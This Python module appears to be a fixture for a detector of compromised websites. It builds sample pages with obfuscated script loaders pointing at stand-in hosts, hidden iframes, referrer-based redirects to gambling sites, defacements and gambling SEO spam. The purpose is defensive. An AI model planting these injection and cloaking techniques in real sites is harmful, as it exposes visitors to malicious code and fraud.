"""Pages that someone else writes on, as threads and notes of cleaned sites show them.

Where a script is both a trick and a way to load a stranger's script, either name will do (`a|b`).
"""

from __future__ import annotations

from base64 import b64encode

from .checks_frames import ARTICLE, HOME, TEXT, article, bare, home, script, single

LOADS = "foreign_script|script_trick"
GAMES = "https://www.jinsha-9918.example/"
LOADER = "https://cdn.sta-count66.example/t.js"


def put(name: str, html: str, *seen: str, url: str = HOME) -> None:
    """A page and the observations of `injection` on it."""
    single(f"injected/{name}", url, html, injection=list(seen))


def codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


def percents(text: str) -> str:
    return "".join(f"%{ord(c):02x}" for c in text)


def base64(text: str) -> str:
    return b64encode(text.encode()).decode()


def loaders() -> None:
    decoder = (
        "function uqDec(e){var m='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var t='',n,r,i,s,o,u,a,f=0;"
        "e=e.replace(/[^A-Za-z0-9+/=]/g,'');while(f<e.length){s=m.indexOf(e.charAt(f++));o=m.indexOf(e.charAt(f++));u=m.indexOf(e.charAt(f++));a=m.indexOf(e.charAt(f++));"
        "n=s<<2|o>>4;r=(o&15)<<4|u>>2;i=(u&3)<<6|a;t=t+String.fromCharCode(n);if(u!=64){t=t+String.fromCharCode(r)}if(a!=64){t=t+String.fromCharCode(i)}}return t}"
    )
    hidden_name = "".join(f"\\x{ord(c):02x}" for c in "MfXKwV")
    run = (
        f"eval('window')['{hidden_name}']=function(){{;(function(u,r,w,d,f,c){{var x=uqDec;u=decodeURIComponent(x(u.replace(new RegExp(c+''+c,'g'),c)));'jQuery';"
        "k=r[2]+'c'+f[1];'Flex';v=k+f[6];var s=d.createElement(v+c[0]+c[1]),g=function(){};s.type='text/javascript';{s.onload=function(){g()}}s.src=u;'CSS';d.getElementsByTagName('head')[0].appendChild(s)})"
        f"('{base64(LOADER)}','Fvscript',window,document,'kryptoi','pt');}}();"
    )
    put("decoder_of_its_own_at_the_end", home("", after=script(decoder + run)), LOADS)
    tag = f"<script src={LOADER}></script>"
    put(
        "tags_behind_a_headline",
        article(title=f"霁川县召开秋粮收购现场会{tag}{tag}"),
        "foreign_script",
        url=ARTICLE,
    )
    put(
        "tag_with_a_note_instead_of_a_gap",
        home(
            "<div class='gg'><a href='/jcxzf/c120/9.shtml'>招聘公告<script/**/src=https://up.ssv-lib.example/ver.txt></script></a></div>"
        ),
        "foreign_script",
    )
    elem = (
        "Element.prototype.appendAfter=function(e){e.parentNode.insertBefore(this,e.nextSibling);};(function(){"
        f"var elem=document.createElement(String.fromCharCode({codes('script')}));elem.type=String.fromCharCode({codes('text/javascript')});"
        f"elem.src=String.fromCharCode({codes(LOADER)});elem.appendAfter(document.getElementsByTagName(String.fromCharCode({codes('script')}))[0]);}})();"
    )
    put("element_by_the_codes_of_its_letters", home("", head=script(elem)), LOADS)
    put(
        "stranger_among_counters",
        home(
            '<script src="http://count6.51yes.com/click.aspx?id=61280000&logo=12" charset="gb2312"></script><script src="http://pv.sohu.com/cityjson?ie=utf-8"></script><script src="http://dfpai.example/tongji.js?ip=pas33"></script>'
        ),
        "foreign_script",
    )
    put(
        "written_in_halves",
        home(
            script(
                "function x2(){document.write('<scrip'+'t type=\"text/javascript\" src=\"//vjvk.nf24co.example/site/oji/fki.js\"></sc'+'ript>');}x2();"
            )
        ),
        "foreign_script",
    )
    put(
        "list_of_one_tag",
        home(
            script(
                "/* 126 */var _c_top_001=[\"<script type='text/javascript' src='https://ip.huo-ip.example/ip?format=js'><\\/script>\"];document.write(_c_top_001);"
            )
        ),
        LOADS,
    )
    put(
        "frame_that_is_not_shown",
        home('<iframe src="https://fr.evil-count.example/frame" style="display:none"></iframe>'),
        "foreign_script",
    )
    push = "".join(f"\\x{ord(c):02x}" for c in "https://zz.bdustatlc.example/linksubmit/push.js")
    put(
        "looks_like_a_search_engines",
        home(
            script(
                f'(function(){{var bp=document.createElement("script");bp["\\x73\\x72\\x63"]="{push}";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(bp,s);}})();'
            )
        ),
        LOADS,
    )
    listed = ",".join(f"'{base64(one)}'" for one in ("none", "display", "script", LOADER, "head"))
    put(
        "words_in_base64",
        home(
            script(
                f"try{{var _0x438e=[{listed}];var s=document.createElement(atob(_0x438e[2]));s.src=atob(_0x438e[3]);document.getElementsByTagName(atob(_0x438e[4]))[0].appendChild(s);}}catch(e){{}}"
            )
        ),
        LOADS,
    )
    put(
        "picture_that_fails",
        article(
            text=f"<p><img src=x onerror=\"var s=document.createElement('script');s.src='{LOADER}';document.body.appendChild(s)\"></p>{TEXT}"
        ),
        LOADS,
        url=ARTICLE,
    )
    written = f"<script src={LOADER}></script>"
    put(
        "drawing_that_writes",
        home(f"<svg onload=document.write(String.fromCharCode({codes(written)}))></svg>"),
        LOADS,
    )
    put(
        "eval_by_another_name",
        home(
            script(
                f"window['eval'](unescape('{percents(f'document.write(unescape(`{percents(written)}`))')}'))"
            )
        ),
        LOADS,
    )
    put(
        "frame_far_away_made_by_a_script",
        home(
            script(
                "var embed=document.createElement('iframe');embed.src='https://fr.evil-count.example/m';embed.frameBorder=0;embed.style='width:100px;height:100px;left:-100vw;top:-100vh;opacity:0.01;position:absolute;';document.body.appendChild(embed);"
            )
        ),
        LOADS,
    )


def jumps() -> None:
    put(
        "where_they_come_from_by_a_pattern",
        home(
            script(
                "var regexp=/\\.(sogou|soso|baidu|google|so)(\\.[a-z0-9\\-]+){1,2}\\//ig;\nvar where =document.referrer;\nif(regexp.test(where))\n{\nwindow.location.href='http://203.0.113.26:2008/1.html'\n}"
            )
        ),
        "script_trick",
    )
    put(
        "telephone_then_engine_then_hour",
        home(
            script(
                "(function(){var u=navigator.userAgent;if(/Android|iPhone|Mobile/i.test(u)){if(/baidu|sm\\.cn|so\\.com|sogou/i.test(document.referrer)){var h=[1,1,1,0,0,0,0,0,0,0,0,0,1,0,0,0,0,0,1,1,1,1,1,1];var n=Number(localStorage.getItem('vn')||0)+1;localStorage.setItem('vn',n);"
                f"if(h[new Date().getHours()]&&n>2){{location.replace('{GAMES}');}}}}}}}})();"
            )
        ),
        "script_trick",
    )
    put(
        "once_for_each_visitor",
        home(
            script(
                "if(document.cookie.indexOf('csrf_uid')==-1){document.cookie='csrf_uid=1;path=/;expires='+new Date(Date.now()+86400000).toUTCString();"
                f"if(document.loaded){{window.location='{GAMES}afu.php?id=473';}}else{{window.addEventListener('load',function(){{window.location='{GAMES}afu.php?id=473';}});}}}}"
            )
        ),
        LOADS,
    )
    put(
        "refresh_in_the_head",
        home("", head=f'<meta http-equiv="refresh" content="0;url={GAMES}">'),
        f"{LOADS}|page_defaced",
    )
    put(
        "on_the_way_to_a_new_product",
        bare(
            "<p>正在进入旗下新产品，为你定制，请稍后...</p>"
            + script(f"setTimeout(function(){{window.location.replace('{GAMES}')}},1500);"),
            "请稍后",
        ),
        f"{LOADS}|page_defaced",
    )


def written_over() -> None:
    put(
        "hacked_by_somebody",
        "<html><head><TITLE> HACKED </TITLE></head><body style='background-color:#000' onload='type_text()'><FONT FACE=Courier><center><h1>Hacked</h1></FONT><marquee scrollamount=\"6\"><font color=\"red\">By ./mirage</font></marquee><p>i am watching your site</p></center></body></html>",
        "page_defaced",
    )
    put(
        "own_name_behind_the_trade",
        home("", title="金沙体育(中国)官方网站-霁川县人民政府"),
        "page_defaced",
    )
    put(
        "trade_in_english",
        article(
            title="SLOT GACOR 777 | Situs Judi Online Maxwin",
            text="<p>Situs slot gacor terpercaya, RTP slot, togel online, casino online, deposit pulsa.</p>"
            * 3,
        ),
        "page_defaced",
        url=ARTICLE,
    )
    numbers = "".join(f"&#{ord(c)};" for c in "凤凰彩票平台注册_凤凰彩票官网app下载")
    put("trade_in_numbers", home("", title=numbers), "page_defaced")
    put(
        "words_of_the_trade_in_the_head",
        home(
            "",
            head='<meta name="keywords" content="澳门金沙网址,金沙娱乐城注册,北京快三开奖"><meta name="description" content="澳门金沙娱乐城官网提供真人百家乐、时时彩投注。">',
        ),
        "page_defaced",
    )


def build() -> None:
    loaders()
    jumps()
    written_over()
